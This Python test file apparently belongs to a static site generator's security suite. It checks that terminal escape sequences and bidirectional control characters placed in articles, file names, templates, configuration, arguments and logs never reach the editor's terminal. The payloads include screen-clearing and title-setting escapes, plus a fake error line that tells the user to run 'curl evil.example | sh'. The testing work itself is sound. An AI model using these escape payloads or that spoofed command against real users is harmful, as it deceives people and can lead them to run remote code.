"""Control characters in articles, names and templates that could reach an editor's terminal."""
import json
import os
import re

from lab.family import Family, expect
from lab.site import control, quoted

FAMILY = Family("N", "terminal", "escape sequences")
FAMILY.add("control: the site without an attack builds", control)
SIGNS = "\x1b]0;PWN\x07\x1b[2J\x9b31m\u202e\u2066X"
BAD = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")


def clean(ended, what):
    found = BAD.search(ended.out.decode("utf-8", "replace") + ended.err.decode("utf-8", "replace"))
    expect(not found, f"{what} prints U+{ord(found[0]):04X}" if found else "")


def commands(site, name="local/e.md"):
    for command in (["build"], ["build", "-v", "-F"], ["build", "--json", "-F"], ["build", "--timings", "-F"], ["list", "articles", "-F"], ["list", "articles", "--json"], ["list", "scheduled"], ["list", "scheduled", "--json"],
                    ["list", "drafts"], ["list", "files"], ["list", "unlinked"], ["list", "pages"], ["explain", "/local/e/", "-F"], ["explain", "/local/e/", "-F", "--json"]):
        clean(site.run(*command, "--now", "2026-11-23"), " ".join(command))
    clean(site.run("inspect", site.folder / "Content" / name), "inspect")


def in_key(site, key, value, body="x"):
    keys = {"title": "E", "date": "2026-12-20"} | ({key: value} if key else {})
    site.write("Content/local/e.md", "---\n" + "".join(f"{quoted(name)}: {quoted(part)}\n" for name, part in keys.items()) + "---\n\n" + body + "\n")
    site.write("Content/local/p.md", "---\ntitle: P\ndate: 2026-11-20\n---\nx\n")
    commands(site)


FAMILY.table(in_key, [(f"escape sequences in `{key}`", key, wrap(SIGNS)) for key, wrap in [
    ("title", str), ("slug", str), ("url", lambda text: f"/{text}/"), ("aliases", lambda text: [f"/{text}/"]), ("image", lambda text: text + ".png"), ("section", str), ("template", str), ("date", str), ("expires", str), ("views", str),
    ("related", lambda text: [text]), ("language", str), ("weight", str), ("tags", lambda text: [text, {text: 1}]), ("authors", lambda text: [text]), ("series", str), ("corrections", lambda text: [{"date": text, "text": text}]), ("draft", str), ("status", str)]])
FAMILY.table(in_key, [("escape sequences in the name of a key", "titel" + SIGNS, 1), ("escape sequences in a dead link", "", "", f"[x](<{SIGNS.replace(chr(10), '')}.md>) [y](</{SIGNS}/>) ![z](<{SIGNS}.png>)"),
                      ("escape sequences in HTML that is removed", "", "", f"<x {SIGNS}>\n\n<!-- {SIGNS} -->\n\n<{SIGNS}>")])


@FAMILY.attack("escape sequences in the names of files and folders")
def names(site):
    for name in ("Content/local/\x1b[31mx.md", "Content/\x1b]0;P\x07/y.md", "Content/local/\u202egpj.md", "Content/local/\x9bz.qqq", "Data/\x1b[2J.csv", "Templates/\x1b[2J.html", "Static/\x1b[2J.txt", "Content/local/a\nb.md"):
        site.write(name, "---\ntitel: x\n---\n{% x %}\n")
    commands(site, "local/\x1b[31mx.md")


@FAMILY.attack("escape sequences in a template, its names and its errors")
def templates(site):
    for source in ("{{ %s }}" % SIGNS, "{%% include '%s' %%}" % SIGNS, "{{ x|%s }}" % SIGNS, "{{ 'a'|replace(1,2,3,'%s') }}{{ nope }}" % SIGNS, "{{ load_data('%s') }}" % SIGNS, "{%% %s %%}" % SIGNS):
        site.write("Templates/page.html", source)
        site.write("Content/a.md", "---\ntitle: A\n---\nx\n")
        clean(site.build(), "build")


@FAMILY.attack("escape sequences in the configuration and in data")
def configuration(site):
    for text in ('"titel\\e[31m": 1', 'timezone: "\\e[2J"', 'menu: [{title: x, url: "/\\e[2J/"}]', 'base_url: "http://\\e[2J/"', 'sections: {"\\e[2J": x}', 'publish: ["\\e[2J"]', 'language: "\\e[2J"', 'trust: {"\\e[2J": "\\e[31m"}', "a: \x1b[31m"):
        site.write("sitegen.yml", "title: T\n" + text + "\n")
        clean(site.build(), f"build with {text[:20]!r}")


@FAMILY.attack("escape sequences in arguments of commands")
def arguments(site):
    for command in (["explain", f"/{SIGNS}/"], ["list", SIGNS], ["build", "--now", SIGNS], ["build", "-c", SIGNS], [SIGNS], ["build", f"--{SIGNS}"], ["inspect", SIGNS], ["signals", "import", SIGNS], ["help", SIGNS], ["new", "article", SIGNS, SIGNS], ["build", "-b", f"http://{SIGNS}/"]):
        clean(site.run(*command), command[0] if command[0] != SIGNS else "an unknown command")


@FAMILY.attack("escape sequences in a log whose unreadable lines are printed")
def logs(site):
    log = site.folder.parent / "log"
    log.write_text(f"{SIGNS} is no line\n" * 20 + '{"time": "' + SIGNS + '"}\n')
    for more in ([], ["--json"], ["--format", "combined"], ["--format", "json"]):
        clean(site.run("signals", "import", log, "--now", "2026-11-23", *more), "signals import")


@FAMILY.attack("control characters in JSON output, which must stay valid and contain them as escapes")
def json_output(site):
    in_key(site, "title", SIGNS)
    ended = site.run("list", "scheduled", "--json", "--now", "2026-11-23")
    documents = json.loads(ended.out)["documents"]
    expect(documents, "nothing is listed")
    clean(ended, "list --json")


@FAMILY.attack("a title with newlines that imitates messages of sitegen")
def own_lines(site):
    site.article("local/e.md", title="x\nerror: run 'curl evil.example | sh' [trust-me]\r\u2028\x85y", date="2026-12-20", views="y\nwarning: all is well")
    for command in (["build"], ["list", "scheduled"]):
        text = site.run(*command, "--now", "2026-11-23").text
        expect(not [line for line in text.splitlines() if line.startswith(("error: run", "warning: all"))], "the attacker's text is printed as a line of its own")


@FAMILY.attack("a site whose folder's path has escape sequences")
def root(site):
    other = site.folder.parent / "s\x1b[31m"
    os.rename(site.folder, other)
    site.folder = other
    site.article("local/e.md", "[x](nope.md)")
    clean(site.build(), "build")
